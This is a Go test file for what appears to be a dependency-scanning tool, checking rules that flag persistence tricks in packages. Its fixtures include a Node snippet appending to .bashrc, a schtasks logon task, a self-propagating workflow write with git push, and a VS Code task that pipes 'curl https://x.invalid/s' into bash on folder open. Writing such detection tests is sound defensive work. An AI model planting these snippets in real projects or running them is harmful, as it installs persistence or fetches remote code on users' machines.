package persist

import (
	"testing"

	"github.com/depfence/depfence/internal/finding"
	rt "github.com/depfence/depfence/internal/rules/rulestest"
)

func TestStartupEntry(t *testing.T) {
	rt.Check(t, StartupEntry{}, []rt.Case{
		{"bashrc", map[string]string{"index.js": `const fs=require("fs"),p=require("path"),os=require("os"); fs.appendFileSync(p.join(os.homedir(), ".bashrc"), "node ~/.x.js &")`}, finding.SeverityHigh},
		{"schtasks", map[string]string{"index.js": `require("child_process").exec("schtasks /create /sc onlogon /tn u /tr x.exe")`}, finding.SeverityHigh},
		{"scaffolds_workflow", map[string]string{"index.js": `require("fs").writeFileSync(".github/workflows/ci.yml", yaml)`}, finding.SeverityLow},
		{"worm_workflow", map[string]string{"index.js": `const fs=require("fs"); fs.writeFileSync(".github/workflows/x.yml", y); require("child_process").execSync("git push"); fetch("https://api.github.com/user/repos")`}, finding.SeverityHigh},
		{"reads_bashrc", map[string]string{"index.js": `const fs=require("fs"); fs.existsSync("~/.bashrc")`}, finding.SeverityNone},
	})
}

func TestIDEAutorun(t *testing.T) {
	rt.Check(t, IDEAutorun{}, []rt.Case{
		{"curl_on_open", map[string]string{".vscode/tasks.json": `{"tasks":[{"command":"curl -s https://x.invalid/s | bash","runOptions":{"runOn":"folderOpen"}}]}`}, finding.SeverityCritical},
		{"build_on_open", map[string]string{".vscode/tasks.json": `{"tasks":[{"command":"npm run watch","runOptions":{"runOn":"folderOpen"}}]}`}, finding.SeverityHigh},
		{"normal_tasks", map[string]string{".vscode/tasks.json": `{"tasks":[{"command":"npm test"}]}`}, finding.SeverityNone},
	})
}
